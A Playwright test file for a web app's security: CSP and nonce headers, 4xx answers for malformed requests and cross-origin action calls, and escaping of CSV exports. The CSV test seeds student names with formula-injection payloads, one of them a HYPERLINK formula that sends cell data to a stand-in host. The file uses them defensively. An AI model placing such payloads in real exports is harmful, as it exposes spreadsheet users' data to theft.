/**
 * The security headers on every kind of response, the Content-Security-Policy in a real
 * Chromium (pages hydrate and work; no violation is reported on the main pages), the 4xx
 * answers for requests the framework used to turn into 500s, and CSV exports that a
 * spreadsheet cannot run as formulas.
 */
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { expect, newUser, signedInPage, test, type TestUser } from './fixtures';
import { DrillPage } from './pages/drill-page';
import { PracticePage } from './pages/practice-page';
import { builtActions } from './fuzz/manifest';
import { StudentClassesPage, TeachPages } from './pages/teach-pages';

/** Collects CSP violations (the DOM event and Chromium's console report) and page errors. */
async function watchViolations(page: Page): Promise<string[]> {
  const problems: string[] = [];
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI || 'inline'}`));
  });
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy|CSP violation/i.test(message.text())) problems.push(message.text());
  });
  page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
  return problems;
}

function expectSecurityHeaders(headers: Record<string, string>, where: string) {
  const policy = headers['content-security-policy'] ?? '';
  expect(policy, where).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{20,}' 'strict-dynamic'/);
  expect(policy, where).not.toContain('unsafe-eval');
  for (const directive of ["frame-ancestors 'none'", "object-src 'none'", "base-uri 'self'", "form-action 'self'"]) expect(policy, where).toContain(directive);
  expect(headers['x-content-type-options'], where).toBe('nosniff');
  expect(headers['referrer-policy'], where).toBe('strict-origin-when-cross-origin');
}

test('security headers on pages, redirects, API routes, errors and refusals; a fresh nonce per response', async ({ request }) => {
  const paths = ['/', '/practice', '/practice/lock-holder?tier=1&seed=7', '/sign-in', '/sign-up', '/home', '/teach', '/api/health', '/api/export/reviews.csv', '/api/auth/session', '/no-such-page', '/practice/%FF'];
  const nonces = new Set<string>();
  for (const path of paths) {
    const response = await request.get(path, { maxRedirects: 0 });
    expect(response.status(), path).toBeLessThan(500);
    expectSecurityHeaders(response.headers(), path);
    nonces.add(/'nonce-([^']+)'/.exec(response.headers()['content-security-policy'] ?? '')?.[1] ?? '');
  }
  expect(nonces.size).toBe(paths.length);
  // The framework's scripts carry this response's nonce.
  const page = await request.get('/sign-in');
  const nonce = /'nonce-([^']+)'/.exec(page.headers()['content-security-policy'] ?? '')?.[1] as string;
  const scripts = (await page.text()).match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  expect(scripts.filter((s) => !s.includes(`nonce="${nonce}"`))).toEqual([]);
});

test('requests the framework answered with 500 get a 4xx and a plain message', async ({ request, baseURL }) => {
  const malformed = await request.get('/practice/%FF');
  expect(malformed.status()).toBe(400);
  expect(await malformed.text()).toMatch(/malformed %-escape/);
  // A router state header Next cannot parse (Next threw while rendering: a 500) is dropped by
  // the server process, and the page is answered as to a request without one.
  for (const tree of ['%7Bx', encodeURIComponent('["",{"children":5}]')]) {
    const badTree = await request.get('/practice', { headers: { rsc: '1', 'next-router-state-tree': tree } });
    expect(badTree.status(), tree).toBe(200);
    expect(await badTree.text(), tree).toContain('lock-holder');
  }
  // An action id the app really has (from the practice page's manifest entry is not needed: any id is checked for origin first).
  const crossOrigin = await request.post('/', { headers: { 'next-action': '00'.repeat(21), origin: 'https://evil.example', 'content-type': 'text/plain;charset=UTF-8' }, data: '[]' });
  expect(crossOrigin.status()).toBe(403);
  expect(await crossOrigin.text()).toMatch(/only be called from this site/);
  for (const body of ['"x"', '5', 'null']) {
    const notAList = await request.post('/', { headers: { 'next-action': '00'.repeat(21), origin: baseURL as string, 'content-type': 'text/plain;charset=UTF-8' }, data: body });
    expect(notAList.status(), body).toBe(400);
  }
});

test('form actions called with a non-form argument answer their typed invalid state, not a 500', async ({ browser }) => {
  const FORM_ACTIONS = ['joinClass', 'setLocale', 'setTheme', 'signUp', 'addTopics', 'startMock', 'startAssignmentAttempt', 'removeTopic', 'saveSettings', 'importProgressFile', 'saveSetAction'];
  const actions = builtActions().filter((a) => FORM_ACTIONS.includes(a.name));
  expect(actions.map((a) => a.name).sort()).toEqual([...FORM_ACTIONS].sort());
  const page = await signedInPage(browser, newUser('STUDENT'));
  const failures: string[] = [];
  for (const action of actions) {
    // Where the FormData belongs: a string, a number, null, an object, or no argument at all.
    for (const args of [['x'], [5], [null], [{ code: 'ABCD' }], [], [{ status: 'idle' }, 'x'], [{ status: 'idle' }, 5], [{ status: 'idle' }, null]]) {
      const response = await page.request.post(action.paths[0] as string, {
        headers: { 'next-action': action.id, accept: 'text/x-component', 'content-type': 'text/plain;charset=UTF-8' },
        data: JSON.stringify(args),
        maxRedirects: 0,
      });
      const text = await response.text();
      if (response.status() !== 200 || !/"status":"invalid"/.test(text)) failures.push(`${action.name}(${JSON.stringify(args)}): HTTP ${response.status()} ${text.slice(0, 120)}`);
    }
  }
  expect(failures).toEqual([]);
  await page.context().close();
});

test('the CSP lets the main pages hydrate and work, and none of them reports a violation', async ({ browser }) => {
  test.setTimeout(120_000);
  const student = newUser('STUDENT');
  const page = await signedInPage(browser, null);
  const problems = await watchViolations(page);

  // Sign-up and sign-in run through client-side handlers: they only work once hydrated.
  const home = await page.goto('/');
  expectSecurityHeaders(home?.headers() ?? {}, '/');
  await page.goto('/sign-in');
  await page.context().close();
  const studentPage = await signedInPage(browser, student);
  const studentProblems = await watchViolations(studentPage);
  await studentPage.goto('/home');
  await expect(studentPage.getByText(student.name).first()).toBeVisible();

  // A practice question: answered and graded through the client.
  const practice = new PracticePage(studentPage);
  const question = await practice.open('lock-holder', 1, 7);
  await practice.enter(question, question.answer);
  await practice.check();
  await expect(practice.verdict()).toHaveAttribute('data-correct', 'true');

  // The drill page: the deck editor's action works.
  const drill = new DrillPage(studentPage);
  await drill.goto();
  await drill.addTopics(['lock']);

  // The instructor's pages: creating a class.
  const instructorPage = await signedInPage(browser, newUser('INSTRUCTOR'));
  const instructorProblems = await watchViolations(instructorPage);
  const klass = await new TeachPages(instructorPage).createClass('CSP class');
  await instructorPage.goto('/teach');
  await instructorPage.goto(klass.url);

  expect([...problems, ...studentProblems, ...instructorProblems]).toEqual([]);
  await studentPage.context().close();
  await instructorPage.context().close();
});

test('CSV exports: names and emails that look like formulas reach the spreadsheet as text', async ({ browser }) => {
  test.setTimeout(120_000);
  const instructor = await signedInPage(browser, newUser('INSTRUCTOR'));
  const teach = new TeachPages(instructor);
  const klass = await teach.createClass('Formula class');
  await teach.createSet('Formula set', [{ generator: 'lock-holder', tier: 1, count: 1 }]);
  await teach.assign(klass.url, '=1+1 homework');
  const id = Date.now().toString(36);
  const students: TestUser[] = [
    { ...newUser('STUDENT'), name: '=HYPERLINK("http://x/?"&A1,"grade")' },
    { ...newUser('STUDENT'), name: '+SUM(1,1)', email: `+${id}@example.test` },
    { ...newUser('STUDENT'), name: '@cmd', email: `-${id}@example.test` },
  ];
  for (const s of students) {
    const page = await signedInPage(browser, s);
    await new StudentClassesPage(page).join(klass.code, 'You joined Formula class');
    await page.goto('/assignments');
    await page.getByRole('link', { name: '=1+1 homework' }).click();
    await page.getByTestId('start-attempt').click();
    await expect(page.getByTestId('attempt-player')).toBeVisible();
    await page.context().close();
  }
  const api = klass.url.replace('/teach/classes/', '/api/teach/classes/');
  for (const file of ['gradebook.csv', 'answers.csv']) {
    const response = await instructor.request.get(`${api}/${file}`);
    expect(response.status()).toBe(200);
    const rows = Papa.parse<string[]>((await response.text()).replace(/^\ufeff/, '').trim()).data;
    const cells = rows.flat();
    // Every cell a spreadsheet would evaluate is prefixed with a single quote.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c)), file).toEqual([]);
    for (const s of students) {
      expect(cells, file).toContain(`'${s.name}`);
      if (/^[+-]/.test(s.email)) expect(cells, file).toContain(`'${s.email}`);
    }
    if (file === 'gradebook.csv') expect(rows[0], file).toContain("'=1+1 homework score");
  }
  await instructor.context().close();
});

test('a progress import through the stats page: parsed on the worker, written in steps, the page shows the new progress', async ({ browser }) => {
  test.setTimeout(120_000);
  const page = await signedInPage(browser, newUser('STUDENT'));
  await new DrillPage(page).goto();
  await new DrillPage(page).addTopics(['lock']);
  const exported = await page.request.get('/api/export/progress.json');
  expect(exported.status()).toBe(200);
  const file = (await exported.json()) as { deckTopics: { topic: string; addedAt: string }[] };
  // Import a file whose deck has one more topic than the learner's.
  file.deckTopics.push({ topic: 'cow', addedAt: new Date('2026-01-01T00:00:00Z').toISOString() });
  await page.goto('/stats');
  const importFile = { name: 'progress.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) };
  await page.getByTestId('import-file').setInputFiles(importFile);
  await page.getByTestId('import-confirm').check();
  await page.getByTestId('import-submit').click();
  await expect(page.getByTestId('import-result')).toHaveAttribute('data-status', 'ok');
  const again = (await (await page.request.get('/api/export/progress.json')).json()) as { deckTopics: { topic: string }[] };
  expect(again.deckTopics.map((d) => d.topic).sort()).toEqual(['cow', 'lock']);
  // A file that is not JSON changes nothing and says why.
  await page.getByTestId('import-file').setInputFiles({ ...importFile, buffer: Buffer.from('{"format": ') });
  await page.getByTestId('import-confirm').check();
  await page.getByTestId('import-submit').click();
  await expect(page.getByTestId('import-issue').first()).toHaveAttribute('data-code', 'not-json');
  await page.context().close();
});
